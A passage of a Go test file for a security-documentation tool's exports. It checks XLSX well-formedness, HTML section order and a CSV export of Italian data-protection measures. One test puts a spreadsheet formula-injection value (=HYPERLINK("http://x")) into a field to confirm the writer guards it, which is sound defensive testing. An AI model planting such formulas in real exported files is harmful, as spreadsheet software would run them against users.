		dec := xml.NewDecoder(rc)
		for {
			if _, err := dec.Token(); err == io.EOF {
				break
			} else if err != nil {
				t.Fatalf("%s is not well-formed XML: %v", f.Name, err)
			}
		}
		rc.Close()
	}
	xf, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer xf.Close()
	rows, err := xf.GetRows(TableWorkstations.SheetName())
	if err != nil || len(rows) != 4 {
		t.Fatalf("postazioni sheet: %d rows, %v", len(rows), err)
	}
}

// The HTML report carries the same cycle sections as the PDF.
func TestHTMLCycleSections(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteHTML(&buf, fixtureSnapshot(), nil); err != nil {
		t.Fatal(err)
	}
	html := buf.String()
	for _, w := range []string{"Operatori e smart card operatore (SCO)", "Lucia D&#39;Angelo", "9. Monitoraggio: eventi di sicurezza e variazioni",
		"ev-1", "V4", "10. Validazione e invio", "10.1 Adozione e firme", "Firme", "10.2 Invio alla Prefettura", "Prova dell&#39;invio (ricevuta)", "PEC 2026/118", "11. Allegati", "12. Registro delle modifiche"} {
		if !strings.Contains(html, w) {
			t.Errorf("HTML lacks %q", w)
		}
	}
	// One part validates and sends: the signatures sit between the
	// adoption and the sending, before the annexes and the register.
	at := func(s string) int { return strings.Index(html, s) }
	if !(at("10.1 Adozione e firme") < at(`class="signatures"`) && at(`class="signatures"`) < at("10.2 Invio alla Prefettura") &&
		at("10.2 Invio alla Prefettura") < at("11. Allegati") && at("11. Allegati") < at("12. Registro delle modifiche")) || strings.Count(html, `class="signatures"`) != 1 {
		t.Error("the signatures are not inside «Validazione e invio», between the adoption and the sending")
	}
}

// TestCatalogueMeasures: the measures table of a plain catalogue carries
// reference, origin class and the compliant answer of negative questions,
// and guards a cell that a spreadsheet would run as a formula.
func TestCatalogueMeasures(t *testing.T) {
	src, err := os.ReadFile("../testdata/catalogues/good/dps-plain.yaml")
	if err != nil {
		t.Fatal(err)
	}
	c, err := checklist.Parse(src, "dps-plain.yaml")
	if err != nil {
		t.Fatal(err)
	}
	c.Item("ORG-01").Guidance = "=HYPERLINK(\"http://x\")"
	var buf bytes.Buffer
	if err := WriteCatalogueCSV(&buf, c, DialectRFC4180); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 5 || len(rows[0]) != len(TableMeasures.Columns()) {
		t.Fatalf("%d rows of %d columns", len(rows), len(rows[0]))
	}
	want := map[string][3]string{ // reference, origin_class, compliant_answer
		"CRED-01": {"D.Lgs. 196/2003, allegato B, regola 6", "normativa", "no"},
		"CRED-02": {"D.Lgs. 196/2003, allegato B, regola 4", "in_parte_buona_pratica", "no"},
		"CRED-03": {"D.Lgs. 196/2003, allegato B, regola 5", "normativa", "si"},
	}
	for _, r := range rows[1:] {
		if w, ok := want[r[3]]; ok && (r[11] != w[0] || r[13] != w[1] || r[15] != w[2]) {
			t.Errorf("%s: reference %q class %q compliant %q, want %v", r[3], r[11], r[13], r[15], w)
		}
		if r[3] == "ORG-01" && !strings.HasPrefix(r[6], "'=") {
			t.Errorf("formula not guarded: %q", r[6])
		}
	}
	var x bytes.Buffer
	if err := WriteCatalogueXLSX(&x, c); err != nil || !bytes.HasPrefix(x.Bytes(), []byte("PK")) {
		t.Fatalf("xlsx: %v", err)
	}
}
